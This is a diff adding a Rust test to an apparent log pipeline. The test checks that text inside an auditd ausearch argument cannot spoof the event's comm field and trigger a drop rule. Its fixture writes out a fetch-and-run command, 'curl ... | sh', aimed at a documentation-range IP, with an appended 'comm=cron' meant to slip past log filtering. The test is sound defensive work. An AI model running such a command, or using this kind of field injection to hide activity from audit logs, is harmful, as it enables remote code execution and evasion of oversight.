@@ -651,6 +651,53 @@ fn auditd_drop_rule_drops_the_event_and_nothing_else() {
     assert!(dropped > 40 && followers > 0);
 }
 
+/// `ausearch -i` prints a user's arguments unquoted: `comm=cron` inside one is argument text,
+/// not the event's comm, and a `comm: [cron]` rule keeps the event; cron's own event still goes.
+#[test]
+fn ausearch_argument_text_is_not_a_field_for_drop_rules() {
+    let mut h = host_with(Some("auditd:\n  drop:\n    - comm: [cron]\n"), &[]);
+    let event = |serial: u32, argv: &[&str], comm: &str, exe: &str| {
+        let t = format!("msg=audit(11/22/2026 10:00:00.123:{serial}) :");
+        let (cmdline, argc) = (argv.join(" "), argv.len());
+        let args: Vec<String> = argv.iter().enumerate().map(|(i, a)| format!("a{i}={a}")).collect();
+        let argv = args.join(" ");
+        [
+            format!("type=PROCTITLE {t} proctitle={cmdline} "),
+            format!(
+                "type=PATH {t} item=0 name={exe} inode=1 dev=fd:00 mode=file,755 ouid=root ogid=root rdev=00:00 nametype=NORMAL cap_fp=none cap_fi=none cap_fe=0 cap_fver=0 cap_frootid=0 "
+            ),
+            format!("type=CWD {t} cwd=/home/mallory "),
+            format!("type=EXECVE {t} argc={argc} {argv} "),
+            format!(
+                "type=SYSCALL {t} arch=x86_64 syscall=execve success=yes exit=0 a0=0x1 a1=0x2 a2=0x3 a3=0x0 items=2 ppid=10 pid=11 auid=mallory uid=mallory gid=mallory euid=mallory suid=mallory fsuid=mallory egid=mallory sgid=mallory fsgid=mallory tty=pts0 ses=3 comm={comm} exe={exe} subj=unconfined key=exec "
+            ),
+        ]
+    };
+    let dropped = |h: &mut FluentBitHost, line: &str| match json(h, &json!({ "exec": line }).to_string()) {
+        Fate::Dropped => true,
+        Fate::Kept(bytes) => {
+            assert_eq!(
+                parse(&bytes)["auditd"].get("comm").and_then(Value::as_str),
+                line.contains("type=SYSCALL").then_some("sh"),
+                "{line}"
+            );
+            false
+        }
+        other => panic!("{other:?}"),
+    };
+    let injected =
+        event(900, &["sh", "-c", "curl -s http://203.0.113.9/x | sh ; true comm=cron"], "sh", "/usr/bin/dash");
+    for line in &injected {
+        assert!(!dropped(&mut h, line), "{line}");
+    }
+    let v = keep(&mut h, &json!({ "exec": injected[3] }).to_string());
+    assert_eq!(v["auditd"]["argv"][2], "curl -s http://203.0.113.9/x | sh ; true comm=cron");
+    // ausearch prints an event's records SYSCALL last: its own comm drops it.
+    let cron = event(901, &["/usr/sbin/cron", "-f"], "cron", "/usr/sbin/cron");
+    let fates: Vec<bool> = cron.iter().map(|l| dropped(&mut h, l)).collect();
+    assert_eq!(fates, [false, false, false, false, true]);
+}
+
 /// Every `AUDIT:` line of the pgaudit logs: kept, tagged, parsed.
 #[test]
 fn pgaudit_corpus_lines_are_tagged_and_parsed() {
